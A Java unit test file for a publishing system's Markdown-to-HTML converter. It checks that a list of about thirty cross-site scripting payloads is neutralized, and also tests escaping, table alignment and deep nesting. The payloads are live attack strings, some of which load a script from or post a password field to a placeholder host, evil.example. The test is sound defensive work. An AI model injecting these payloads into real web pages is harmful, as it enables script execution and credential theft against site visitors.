package org.imprimatur.publishing.page;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class MarkdownTest {
    private final Markdown markdown = new Markdown();

    @ParameterizedTest
    @ValueSource(strings = {
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"https://ok.example/a.png\" onload=\"alert(1)\">",
        "[click](javascript:alert(1))",
        "[click](JaVaScRiPt:alert(1))",
        "[click](&#106;avascript:alert(1))",
        "[click](java\tscript:alert(1))",
        "[click](vbscript:msgbox(1))",
        "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "![x](data:image/svg+xml;base64,PHN2Zy8+)",
        "![x](javascript:alert(1))",
        "<iframe src=https://evil.example></iframe>",
        "<svg/onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<a href=\"https://ok.example\" onclick=\"alert(1)\">x</a>",
        "<p style=\"background:url(javascript:alert(1))\">x</p>",
        "<form action=https://evil.example><input name=password></form>",
        "<object data=evil.swf></object><embed src=evil.swf>",
        "<base href=https://evil.example/>",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<style>body{display:none}</style>",
        "<!--[if IE]><script>alert(1)</script><![endif]-->",
        "<template><script>alert(1)</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "`<script>` is code, <script>alert(1)</script> is not",
        "<scr<script>ipt>alert(1)</scr</script>ipt>"})
    void nothingThatActsComesOut(String hostile) {
        String html = markdown.toHtml(hostile);
        // What is left of tags; text may say what it likes.
        String tags = String.join("", html.split("(^|>)[^<]*(<|$)", -1)).toLowerCase(java.util.Locale.ROOT);
        assertThat(html.toLowerCase(java.util.Locale.ROOT)).doesNotContain("<script", "<iframe", "<svg", "<math",
                "<object", "<embed", "<form", "<input", "<base", "<meta", "<link", "<style", "<template", "<!--");
        assertThat(tags).doesNotContain("javascript:", "vbscript:", "data:", "style=")
                .doesNotContainPattern("\\bon\\w+=");
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {
        "It’s 10.9% — “quoted” & \"plain\" | <p>It’s 10.9% — “quoted” &amp; \"plain\"</p>",
        "# Title | <h2>Title</h2>",
        "1 < 2 and a@b + c = d | <p>1 &lt; 2 and a@b + c = d</p>",
        "https://wipo.int/a?b=1&c=2 | <p><a href=\"https://wipo.int/a?b&#61;1&amp;c&#61;2\">https://wipo.int/a?b=1&amp;c=2</a></p>",
        "*em* **strong** | <p><em>em</em> <strong>strong</strong></p>"})
    void wordsComeOutAsTheyWereWritten(String text, String html) {
        assertThat(markdown.toHtml(text).strip()).isEqualTo(html);
    }

    @Test
    void tablesKeepTheirAlignment() {
        assertThat(markdown.toHtml("| a | b |\n|---|--:|\n| 1 | 2 |")).contains("<table>",
                "<td align=\"right\">2</td>");
    }

    @Test
    void absurdNestingIsAnsweredInsteadOfExhaustingTheStack() {
        for (String opener : new String[]{"> ", "- ", "*a ", "[", "<b>", "(", "![", "**", "`", "<div>"}) {
            assertThat(markdown.toHtml(opener.repeat(50_000) + "x")).isNotNull();
        }
    }

    @Test
    void theFirstParagraphIsPlainText() {
        assertThat(markdown.firstParagraph("# Title\n\nSome *words*\nand a <b>[link](https://a.example)</b>.\n\nMore."))
                .isEqualTo("Some words and a link.");
    }
}
